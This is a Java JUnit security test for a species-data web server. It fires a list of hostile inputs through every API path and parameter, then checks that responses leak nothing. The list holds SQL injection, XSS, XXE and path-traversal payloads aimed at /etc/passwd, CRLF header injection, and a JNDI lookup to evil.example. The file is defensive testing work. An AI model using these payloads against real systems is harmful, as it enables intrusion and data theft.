package org.saola.cli.server;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.FieldSource;
import org.saola.access.Role;
import org.saola.api.redlist4.document.Era;
import org.saola.cli.ApiClient;
import org.saola.cli.Browser;
import org.saola.cli.DemoData;
import org.saola.cli.RunningSite;
import org.saola.cli.accounts.People;
import org.saola.site.ServedApis;
import org.saola.site.SiteSettings;
import org.saola.store.DatabaseSettings;
import org.saola.web.ForeignScript;

/** Attacks through every part of every path and through every parameter. */
final class HostileRequestTest {
  /** What no value may become: a statement, an element, a header, a path, a place in memory. */
  private static final List<String> ATTACKS =
      List.of(
          "' or 1=1 --",
          "1; drop table release; --",
          "\" union select secret from token --",
          "\\' or sleep(5)#",
          "<script>alert(1)</script>",
          "\"'><img src=x onerror=alert(1)>",
          "]]><!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
          "x\r\nSet-Cookie: evil=1\r\n\r\n<script>",
          "\0",
          "../../../../etc/passwd",
          "..\\..\\saola.db",
          "${jndi:ldap://evil.example/a}",
          "%s%n%x",
          "9".repeat(40),
          "-1",
          "\u202e\ufeff\ud83e\udd8c",
          "a".repeat(2000));

  private static RunningSite site;
  private static Browser boss;

  /** Where a path or a query holds something of the client, marked by braces. */
  static final List<String> PATHS =
      List.of(
          "/api/v1/{}",
          "/api/v1/taxon_concepts.{}",
          "/api/v1/taxon_concepts/{}/cites_legislation",
          "/api/v1/taxon_concepts/{}/eu_legislation.xml",
          "/api/v1/taxon_concepts/{}/distributions",
          "/api/v1/taxon_concepts/{}/references.xml",
          "/api/v1/downloads/{}",
          "/downloads/{}",
          "/downloads/saola-en.ndjson.gz?expires={}&signature={}",
          "/api/v4/{}",
          "/api/v4/assessment/{}",
          "/api/v4/taxa/{}",
          "/api/v4/taxa/sis/{}",
          "/api/v4/taxa/kingdom/{}",
          "/api/v4/taxa/phylum/{}",
          "/api/v4/taxa/class/{}",
          "/api/v4/taxa/order/{}",
          "/api/v4/taxa/family/{}",
          "/api/v4/countries/{}",
          "/api/v4/red_list_categories/{}",
          "/api/v4/red_list_categories/LR/{}",
          "/api/v4/comprehensive_groups/{}",
          "/api/v4/conservation_actions/{}",
          "/api/v4/biogeographical_realms/{}",
          "/api/v4/faos/{}",
          "/api/v4/growth_forms/{}",
          "/api/v4/habitats/{}",
          "/api/v4/population_trends/{}",
          "/api/v4/research/{}",
          "/api/v4/scopes/{}",
          "/api/v4/stresses/{}",
          "/api/v4/systems/{}",
          "/api/v4/threats/{}",
          "/api/v4/use_and_trade/{}",
          "/api/v3/{}",
          "/api/v3/species/{}",
          "/api/v3/species/id/{}",
          "/api/v3/species/{}/region/{}",
          "/api/v3/species/page/{}",
          "/api/v3/species/region/{}/page/0",
          "/api/v3/species/category/{}",
          "/api/v3/species/synonym/{}",
          "/api/v3/species/common_names/{}",
          "/api/v3/country/getspecies/{}",
          "/api/v3/comp-group/getspecies/{}",
          "/api/v3/threats/species/name/{}",
          "/api/v3/habitats/species/id/{}",
          "/api/saola/v1/{}",
          "/api/saola/v1/species-plus/taxa/{}",
          "/api/saola/v1/red-list/taxa/{}",
          "/api/saola/v1/red-list/assessments/{}",
          "/{}",
          "/docs/{}",
          "/cite/{}",
          "/assets/{}",
          "/health/{}",
          "/admin/accounts/{}",
          "/admin/{}");

  @BeforeAll
  static void start(@TempDir Path directory) throws Exception {
    DemoData.WHOLE.copyTo(directory);
    site =
        RunningSite.over(
                new DatabaseSettings(directory, null),
                SiteSettings.plain(true).with(new ServedApis(Era.E4, true, false, false)))
            .refreshed();
    People.create(site.database(), "boss@example.org", Role.ADMIN);
    boss = People.signedIn(site.origin(), "boss@example.org");
  }

  @AfterAll
  static void stop() {
    site.close();
  }

  @ParameterizedTest
  @FieldSource("PATHS")
  void pathsAreOnlyLookedUp(String path) throws Exception {
    for (var attack : ATTACKS) {
      checkHarmless(path.replace("{}", encoded(attack)));
    }
  }

  @ParameterizedTest(name = "{0}: {1}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          /api/v1/taxon_concepts       | page per_page updated_since name with_descendants taxonomy language with_eu_listings format action x
          /api/v1/taxon_concepts.xml   | page per_page updated_since name with_descendants taxonomy language with_eu_listings format action x
          /api/v1/taxon_concepts/7/cites_legislation | scope language x
          /api/v1/taxon_concepts/7/eu_legislation.xml | scope language x
          /api/v1/taxon_concepts/7/distributions | language x
          /api/v1/downloads            | language page x
          /api/v4/taxa/scientific_name | genus_name species_name infra_name subpopulation_name
          /api/v4/taxa/class/MAMMALIA  | page per_page latest year_published scope_code possibly_extinct possibly_extinct_in_the_wild x
          /api/v4/countries/MG         | page per_page latest year_published scope_code possibly_extinct possibly_extinct_in_the_wild x
          /api/v4/assessment_search    | filter_on filter_on%5B%5D page per_page latest scope_code
          /api/v4/taxa/possibly_extinct | page per_page
          /api/v3/species/page/0       | token callback x
          /api/saola/v1/status         | name taxon_concept sis_id as_of release language country x
          /api/saola/v1/species-plus/taxa/7 | as_of release language x
          /api/saola/v1/red-list/taxa/7 | as_of release x
          /sign-in                     | next from x
          /sign-up                     | from x
          /new-password                | token x
          /account                     | days from x
          /admin                       | days x
          /admin/accounts              | standing page q email role
          /admin/audit                 | page before subject
          """)
  void parametersAreOnlyCompared(String path, String names) throws Exception {
    for (var name : names.split(" ", -1)) {
      for (var attack : ATTACKS) {
        checkHarmless(path + "?" + name + "=" + encoded(attack));
      }
    }
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, UTF_8).replace("+", "%20");
  }

  private static void checkHarmless(String target) throws Exception {
    var answer = boss.get(target);
    assertThat(answer.statusCode()).as(target).isBetween(200, 499);
    assertThat(answer.headers().map().toString()).as(target).doesNotContain("evil=1");
    assertThat(answer.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
    assertThat(answer.body()).as(target).doesNotContain("SQL", "Exception", "org.saola", "root:x");
    var type = answer.headers().firstValue("Content-Type").orElse("");
    if (type.contains("json")) {
      assertThat(ApiClient.JSON.readTree(answer.body())).as(target).isNotNull();
    } else if (!type.startsWith("text/plain")) {
      assertThat(answer.body())
          .as(target)
          .doesNotContain("<img src=x", "<!ENTITY")
          .doesNotContainPattern(ForeignScript.PATTERN);
    }
  }

  @Test
  void aConditionThatIsAlwaysTrueFindsNothing() throws Exception {
    var found =
        ApiClient.JSON.readTree(get("/api/v1/taxon_concepts?name=" + encoded("' or 1=1 --")));
    assertThat(found.at("/pagination/total_entries").intValue()).isZero();
    var family = ApiClient.JSON.readTree(get("/api/v4/taxa/family/" + encoded("' or '1'='1")));
    assertThat(family.get("assessments")).isEmpty();
  }

  private static String get(String target) throws IOException, InterruptedException {
    HttpResponse<String> answer = boss.get(target);
    assertThat(answer.statusCode()).as(target).isEqualTo(200);
    return answer.body();
  }

  @Test
  void whatIsServedStaysTheSame() throws Exception {
    var before = new ArrayList<String>();
    var after = new ArrayList<String>();
    var targets =
        List.of(
            "/api/v1/taxon_concepts", "/api/v4/statistics/count", "/api/v4/taxa/class/MAMMALIA");
    for (var target : targets) {
      before.add(get(target));
      for (var attack : ATTACKS) {
        checkHarmless(target + "?name=" + encoded(attack) + "&scope_code=" + encoded(attack));
      }
      after.add(get(target));
    }
    assertThat(after).isEqualTo(before);
  }
}
